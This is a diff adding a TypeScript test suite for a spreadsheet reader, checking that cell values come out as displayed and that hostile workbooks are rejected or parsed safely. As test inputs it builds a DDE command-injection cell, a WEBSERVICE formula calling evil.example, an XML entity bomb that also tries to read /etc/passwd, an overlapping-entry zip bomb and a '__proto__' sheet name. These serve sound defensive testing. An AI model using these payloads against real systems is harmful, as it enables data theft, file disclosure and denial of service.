@@ -1,0 +1,164 @@
+import { utils, write } from '@e965/xlsx'
+import { describe, expect, test } from 'vitest'
+import { writeZip } from '../../scripts/wordpress/write-zip.ts'
+import { readWorkbook } from './read-workbook.ts'
+
+const MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+const PACKAGE = 'http://schemas.openxmlformats.org/package/2006'
+
+interface RawSheet {
+  /** What stands within `worksheet`. */
+  xml: string
+  /** In front of `worksheet`. */
+  prolog?: string
+}
+
+/** A workbook as somebody writes it by hand. */
+function rawWorkbook(sheets: readonly RawSheet[]): Buffer {
+  const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
+  const each = <T>(write: (sheet: RawSheet, at: number) => T) => sheets.map((sheet, at) => write(sheet, at + 1))
+  const files = [
+    {
+      name: '[Content_Types].xml',
+      content: `<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${type}.sheet.main+xml"/>${each((_, at) => `<Override PartName="/xl/worksheets/sheet${at}.xml" ContentType="${type}.worksheet+xml"/>`).join('')}</Types>`,
+    },
+    {
+      name: '_rels/.rels',
+      content: `<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="rId1" Type="${RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
+    },
+    {
+      name: 'xl/workbook.xml',
+      content: `<workbook ${MAIN} xmlns:r="${RELATIONS}"><sheets>${each((_, at) => `<sheet name="S${at}" sheetId="${at}" r:id="rId${at}"/>`).join('')}</sheets></workbook>`,
+    },
+    {
+      name: 'xl/_rels/workbook.xml.rels',
+      content: `<Relationships xmlns="${PACKAGE}/relationships">${each((_, at) => `<Relationship Id="rId${at}" Type="${RELATIONS}/worksheet" Target="worksheets/sheet${at}.xml"/>`).join('')}</Relationships>`,
+    },
+    ...each(({ xml, prolog = '' }, at) => ({
+      name: `xl/worksheets/sheet${at}.xml`,
+      content: `${prolog}<worksheet ${MAIN}>${xml}</worksheet>`,
+    })),
+  ]
+  return writeZip(files.map(({ name, content }) => ({ name, content: Buffer.from(content) })))
+}
+
+const rows = (xml: string) => `<sheetData>${xml}</sheetData>`
+const text = (at: string, value: string) => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`
+const good = rows(
+  `<row r="1">${text('B1', '2020')}</row><row r="2">${text('A2', 'Harris')}<c r="B2"><v>5</v></c></row>`,
+)
+
+describe('cells count as they are shown', () => {
+  test.each<[what: string, cell: object, shown: string]>([
+    ['a number', { t: 'n', v: 1234.5 }, '1234.5'],
+    ['in percent', { t: 'n', v: 0.741, z: '0.0%' }, '74.1%'],
+    ['in dollars', { t: 'n', v: 1234.5, z: '"$"#,##0' }, '$1,235'],
+    ['a day', { t: 'n', v: 43_831, z: 'yyyy-mm-dd' }, '2020-01-01'],
+    ['true', { t: 'b', v: true }, 'TRUE'],
+    ['an error', { t: 'e', v: 0x17 }, '#REF!'],
+    ['what a formula came to', { t: 'n', v: 7, f: 'SUM(1,6)' }, '7'],
+    ['a command as a text', { t: 's', v: `=cmd|'/c calc'!A1` }, `=cmd|'/c calc'!A1`],
+  ])('%s', (_, cell, shown) => {
+    const sheet = { '!ref': 'A1', A1: cell }
+    const file = write({ SheetNames: ['S'], Sheets: { S: sheet } }, { type: 'buffer', bookType: 'xlsx' }) as Buffer
+    expect(readWorkbook(file)).toEqual([{ title: 'S', values: [[shown]] }])
+  })
+
+  test('a formula that was never carried out has nothing to show', () => {
+    const xml = rows(
+      '<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example/"&amp;B1)</f></c><c r="B1"><v>5</v></c></row>',
+    )
+    expect(readWorkbook(rawWorkbook([{ xml }]))).toEqual([{ title: 'S1', values: [['', '5']] }])
+  })
+})
+
+describe('hostile workbooks are read in a moment, or not at all', () => {
+  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`).join('')
+  const laughs = `<!DOCTYPE worksheet [<!ENTITY e0 "ha">${entities}<!ENTITY file SYSTEM "file:///etc/passwd">]>`
+  const overlapping = () => {
+    const file = rawWorkbook([{ xml: good + ' '.repeat(3_000_000) }])
+    // Every entry of the directory leads to the largest file.
+    const end = file.length - 22
+    const from = file.readUInt32LE(end + 16)
+    const last = file.lastIndexOf('PK\x01\x02', end, 'latin1')
+    for (let at = from; at < last; at = file.indexOf('PK\x01\x02', at + 4, 'latin1'))
+      file.writeUInt32LE(file.readUInt32LE(last + 42), at + 42)
+    const directory = file.subarray(from, end)
+    const many = Buffer.concat(Array.from({ length: 40 }, () => directory))
+    const tail = Buffer.from(file.subarray(end))
+    tail.writeUInt16LE(5 * 40, 8)
+    tail.writeUInt16LE(5 * 40, 10)
+    tail.writeUInt32LE(many.length, 12)
+    return Buffer.concat([file.subarray(0, from), many, tail])
+  }
+
+  test.each<[what: string, file: () => Buffer, answer: unknown]>([
+    [
+      'a range of a million rows',
+      () => rawWorkbook([{ xml: `<dimension ref="A1:XFD1048576"/>${good}` }]),
+      [
+        {
+          title: 'S1',
+          values: [
+            ['', '2020'],
+            ['Harris', '5'],
+          ],
+        },
+      ],
+    ],
+    [
+      'merged cells without end',
+      () => rawWorkbook([{ xml: `${good}<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>` }]),
+      [
+        {
+          title: 'S1',
+          values: [
+            ['', '2020'],
+            ['Harris', '5'],
+          ],
+        },
+      ],
+    ],
+    [
+      'a cell at the end of the world',
+      () => rawWorkbook([{ xml: rows(`<row r="1048576">${text('XFD1048576', 'x')}</row>`) }]),
+      [{ title: 'S1', values: [] }],
+    ],
+    ['files that lie over each other', overlapping, 'too large'],
+    ['half of one', () => rawWorkbook([{ xml: good }]).subarray(0, 700), 'not a workbook'],
+    ['a zip file of something else', () => writeZip([{ name: 'a.txt', content: Buffer.from('a') }]), 'not a workbook'],
+    ['a workbook of before 2007', () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(4096, '0'), 'hex'), 'not a workbook'],
+    [
+      'more files than any workbook has',
+      () => writeZip(Array.from({ length: 10_001 }, (_, at) => ({ name: String(at), content: Buffer.alloc(0) }))),
+      'not a workbook',
+    ],
+    ['nothing', () => Buffer.alloc(0), 'not a workbook'],
+  ])('%s', (_, file, answer) => {
+    const began = performance.now()
+    expect(readWorkbook(file())).toEqual(answer)
+    expect(performance.now() - began).toBeLessThan(3000)
+  })
+
+  test('entities are no texts', () => {
+    const xml = rows(`<row r="1">${text('A1', '&e9;')}${text('B1', '&file;')}</row>`)
+    const answer = readWorkbook(rawWorkbook([{ prolog: laughs, xml }]))
+    expect(JSON.stringify(answer).length).toBeLessThan(200)
+    expect(JSON.stringify(answer)).not.toMatch(/haha|root:/)
+  })
+
+  test('a name of a worksheet is a name and nothing else', () => {
+    const book = utils.book_new(utils.aoa_to_sheet([['a']]), '__proto__')
+    const file = write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer
+    const answer = readWorkbook(file)
+    expect(answer === 'not a workbook' || Array.isArray(answer)).toBe(true)
+    expect(Object.keys({})).toEqual([])
+    expect(({} as Record<string, unknown>)['!ref']).toBeUndefined()
+  })
+
+  test('hundreds of worksheets are all there', () => {
+    const answer = readWorkbook(rawWorkbook(Array.from({ length: 600 }, () => ({ xml: good }))))
+    expect(Array.isArray(answer) && answer.length).toBe(600)
+  })
+})
